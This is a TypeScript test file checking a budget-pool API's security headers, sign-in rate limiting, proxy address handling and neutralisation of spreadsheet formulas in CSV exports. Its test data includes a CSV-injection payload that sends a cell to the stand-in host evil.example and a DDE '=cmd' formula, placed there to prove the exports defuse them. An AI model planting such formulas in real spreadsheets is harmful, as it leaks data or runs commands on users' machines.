import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { auditCsv } from '../../src/documents/report-documents.ts';
import { referenceData } from '../support/domain.ts';
import { type Harness, POOL_URL, scheme, startHarness, YEAR_URL } from './api-harness.ts';

/** Security headers, throttled sign-in, and documents a spreadsheet cannot be tricked by. */
let api: Harness | undefined;
afterEach(async () => {
  await api?.close();
  api = undefined;
});

describe('security headers', () => {
  it('are on every answer: public, signed in, refused and unknown', async () => {
    api = await startHarness();
    const answers = [
      await api.get('/health/live', null),
      await api.get('/pools', 'auditor'),
      await api.get('/pools', null),
      await api.post('/pools', { poolId: 'x' }, 'admin'),
      await api.get('/no/such/route', null),
      await api.get('/docs/', null),
    ];
    for (const answer of answers) {
      expect(answer.headers['content-security-policy']).toContain("default-src 'self'");
      expect(answer.headers['content-security-policy']).toContain("frame-ancestors 'none'");
      expect(answer.headers['x-content-type-options']).toBe('nosniff');
      expect(answer.headers['x-frame-options']).toBe('SAMEORIGIN');
      expect(answer.headers['referrer-policy']).toBe('no-referrer');
      expect(answer.headers['strict-transport-security']).toMatch(/^max-age=\d+/);
    }
  });
});

describe('failed authentications', () => {
  it('answers 429 to an address after 10 failures in a minute, whatever it sends then; other addresses go on', async () => {
    api = await startHarness();
    const from = (remoteAddress: string, token: string) =>
      api?.app.inject({
        method: 'GET',
        url: '/pools',
        remoteAddress,
        headers: { authorization: `Bearer ${token}` },
      });
    const wrong = `bcf_0123456789abcdef_${'x'.repeat(43)}`;
    const statuses: number[] = [];
    for (let attempt = 0; attempt < 12; attempt++)
      statuses.push((await from('203.0.113.7', wrong))?.statusCode ?? 0);
    expect(statuses).toEqual([...Array(10).fill(401), 429, 429]);
    const valid = await from('203.0.113.7', api.tokens.auditor);
    expect(valid?.statusCode).toBe(429);
    expect(valid?.headers['retry-after']).toMatch(/^\d+$/);
    expect(valid?.json().type).toBe('/problems/rate-limited');
    expect((await from('198.51.100.2', api.tokens.auditor))?.statusCode).toBe(200);
  });
});

describe('the client address behind a proxy', () => {
  const wrong = `bcf_0123456789abcdef_${'x'.repeat(43)}`;
  const guessFrom = (harness: Harness, forwardedFor: string) =>
    harness.app.inject({
      method: 'GET',
      url: '/pools',
      remoteAddress: '10.0.0.5',
      headers: { authorization: `Bearer ${wrong}`, 'x-forwarded-for': forwardedFor },
    });

  it('ignores X-Forwarded-For unless the proxy is trusted, so a guesser cannot name itself anew', async () => {
    api = await startHarness();
    const statuses: number[] = [];
    for (let attempt = 0; attempt < 11; attempt++)
      statuses.push((await guessFrom(api, `198.51.100.${attempt}`)).statusCode);
    expect(statuses).toEqual([...Array(10).fill(401), 429]);
  });

  it('counts each client apart behind a trusted proxy', async () => {
    api = await startHarness({ config: { trustedProxies: ['10.0.0.0/8'] } });
    for (let attempt = 0; attempt < 10; attempt++)
      expect((await guessFrom(api, '198.51.100.1')).statusCode).toBe(401);
    expect((await guessFrom(api, '198.51.100.1')).statusCode).toBe(429);
    expect((await guessFrom(api, '198.51.100.2')).statusCode).toBe(401);
  });
});

describe('documents a spreadsheet would run', () => {
  const DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)'];

  /** A cell a spreadsheet would evaluate: starting with =, +, -, @, a tab or a CR, and no number. */
  const evaluable = (cell: string) =>
    /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

  it('neutralises text beginning with =, +, - or @ in every CSV, keeping amounts as numbers', async () => {
    api = await startHarness();
    const streams = DANGEROUS.map((text) => ({
      name: `${text} stream`,
      category: 'revenue' as const,
    }));
    const reference = {
      ...referenceData,
      fundingStreams: [...referenceData.fundingStreams, ...streams],
    };
    const steps: [string, unknown, 'admin' | 'officer'][] = [
      [
        '/pools',
        {
          poolId: 'herts',
          name: '=1+1 pool',
          hwbArea: '@area',
          host: { partnerId: 'HCC', name: '+HCC', kind: 'Local Authority' },
        },
        'admin',
      ],
      [`${POOL_URL}/partners`, { partnerId: 'CCG', name: '-CCG', kind: 'CCG' }, 'admin'],
      [`${POOL_URL}/years`, { year: '2017-18', referenceData: reference }, 'admin'],
      ...DANGEROUS.map((text, index): [string, unknown, 'officer'] => [
        `${POOL_URL}/schemes`,
        { ...scheme(String(index + 1), text, 'Other'), description: text },
        'officer',
      ]),
      ...DANGEROUS.map((text): [string, unknown, 'officer'] => [
        `${YEAR_URL}/contributions`,
        { partnerId: 'CCG', fundingStream: `${text} stream`, amount: '1000.00' },
        'officer',
      ]),
      ...DANGEROUS.map((text, index): [string, unknown, 'officer'] => [
        `${YEAR_URL}/allocations`,
        {
          allocationId: `a${index}`,
          schemeId: String(index + 1),
          fundingStream: `${text} stream`,
          amount: '500.00',
        },
        'officer',
      ]),
      ...DANGEROUS.map((text, index): [string, unknown, 'officer'] => [
        `${YEAR_URL}/spend`,
        {
          spendId: `s${index}`,
          schemeId: String(index + 1),
          fundingStream: `${text} stream`,
          quarter: 'Q1',
          spendDate: '2017-05-01',
          amount: '600.00',
          supplier: text,
          description: text,
        },
        'officer',
      ]),
      [
        `${YEAR_URL}/spend/s0/reversal`,
        { reversalId: 'r0', reason: '=cmd|"/c calc"!A1' },
        'officer',
      ],
    ];
    for (const [url, body, as] of steps) {
      const response = await api.post(url, body, as);
      expect(response.statusCode, `${url}: ${response.body}`).toBeLessThan(300);
    }
    const csvs: [string, string][] = [];
    for (const report of ['balances', 'quarters/Q1', 'year-end-statement', 'nhs-england-extract'])
      csvs.push([report, (await api.get(`${YEAR_URL}/${report}?format=csv`, 'auditor')).body]);
    const trail = (await api.get(`${POOL_URL}/audit?limit=500`, 'auditor')).json();
    csvs.push(['audit trail', auditCsv(trail.entries)]);
    for (const [name, csv] of csvs) {
      const cells = (parse(csv, { relax_column_count: true }) as string[][]).flat();
      expect(cells.filter(evaluable), name).toEqual([]);
      expect(
        cells.some(
          (cell) => cell.startsWith("'=") || cell.startsWith("'@") || cell.startsWith("'+"),
        ),
        name,
      ).toBe(true);
      expect(
        cells.some((cell) => /^-\d+\.\d{2}$/.test(cell) || /^\d+\.\d{2}$/.test(cell)),
        name,
      ).toBe(name !== 'audit trail');
    }
  });
});
